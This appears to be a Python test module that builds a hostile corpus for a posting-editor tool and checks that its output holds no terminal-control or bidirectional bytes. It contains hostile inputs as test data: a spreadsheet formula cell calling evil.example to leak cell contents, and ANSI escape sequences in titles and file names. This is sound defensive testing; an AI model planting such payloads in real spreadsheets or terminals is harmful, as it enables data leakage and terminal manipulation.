"""The hostile corpus: postings written to harm the terminal or to stall postedit.

Small files live in tests/data/hostile/ (escapes in every kind of field and in keys, raw
control bytes in a body, a raw bidirectional override, a YAML merge-key bomb, NUL bytes,
mixed line endings, deep nesting, a title a spreadsheet would run and an integer no float
holds). The big ones and the hostile file names are made here, at test time: 80,000 keys
(about 800 KB), a 1 MB line in the front matter and one in a body, names holding ESC
sequences, a newline, a C1 control and bytes that are not UTF-8.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
JOBS = "_jobs"

ESCAPES = f"{JOBS}/2024-01-02-escapes.md"
"""Escapes in a string, a multi-line text, a list, a nested mapping, a select, keys, body."""
RAW_BIDI = f"{JOBS}/2024-01-03-raw-bidi.md"
MANY_KEYS = f"{JOBS}/2024-02-01-many-keys.md"
LONG_LINE = f"{JOBS}/2024-02-02-long-line.md"
LONG_BODY = f"{JOBS}/2024-02-03-long-body.md"

NAMES: dict[bytes, str] = {
    b"2024-02-04-esc\x1b[2J\x1b]0;name\x07.md": "Escape in the name",
    b"2024-02-05-new\nline.md": "Newline in the name",
    b"2024-02-06-bad\xff\xfe.md": "Not UTF-8 name",
    b"2024-02-07-c1\xc2\x9b6n.md": "C1 in the name",
}
"""Hostile file names (bytes) and the title of the posting each holds."""
ESC_NAME = f"{JOBS}/" + os.fsdecode(next(iter(NAMES)))

BIG = "1" + "0" * 400
"""The spreadsheet posting's ``count``: YAML reads it as an int, too large for a float."""
FORMULA_CELL = '"\'=HYPERLINK(""https://evil.example/?""&A1'
"""The spreadsheet posting's title as its CSV cell: after a ``'``, so shown, never run."""

TITLE_SHOWN = "\\x1b]0;pwned\\x07 \\x1b[2J\\x1b[6n"
"""How the escapes posting's title must be shown: its escapes, visible."""

MANY = 80_000
"""Keys of the many-keys posting (the issue's: a posting of 789 KB)."""


def many_keys() -> bytes:
    """A posting with 80,000 keys (about 800 KB, well under the size limit)."""
    keys = "".join(f"k{i:05d}: v\n" for i in range(MANY))
    return f"---\ntitle: Many keys\nopen: true\n{keys}---\nbody\n".encode()


def build(root: Path) -> Path:
    """Write the hostile corpus in ``root/_jobs`` (``root`` is made a git repository with one
    commit) and return ``root``."""
    jobs = root / JOBS
    jobs.mkdir(parents=True)
    for path in HOSTILE.iterdir():
        shutil.copyfile(path, jobs / path.name)
    (root / MANY_KEYS).write_bytes(many_keys())
    (root / LONG_LINE).write_bytes(
        b"---\ntitle: Long line\nopen: true\nimage: data:" + b"A" * 1_000_000 + b"\n---\nbody\n"
    )
    (root / LONG_BODY).write_bytes(
        b"---\ntitle: Long body line\nopen: true\n---\n" + b"B" * 1_000_000 + b"\n"
    )
    for name, title in NAMES.items():
        path = os.fsencode(jobs) + b"/" + name
        with open(path, "wb") as fh:
            fh.write(f"---\ntitle: {title}\nopen: true\n---\nbody\n".encode())
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "hostile corpus"]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
    return root


_UNSAFE_BYTES = re.compile(
    rb"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)
"""What no output of postedit may hold: C0 controls but LF and CR (a pty turns each newline
into CR LF), DEL, C1 controls and bidirectional overrides (UTF-8 encoded)."""


def unsafe_bytes(data: bytes) -> list[bytes]:
    """The bytes of ``data`` a terminal could act on (empty: safe), with some context."""
    return [data[max(0, m.start() - 20) : m.end() + 20] for m in _UNSAFE_BYTES.finditer(data)]


def unsafe_text(text: str) -> list[str]:
    """The same test on text already decoded (a screen's characters)."""
    return [
        text[max(0, i - 20) : i + 20]
        for i, c in enumerate(text)
        if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in _BIDI or 0xD800 <= ord(c) <= 0xDFFF
    ]


_BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
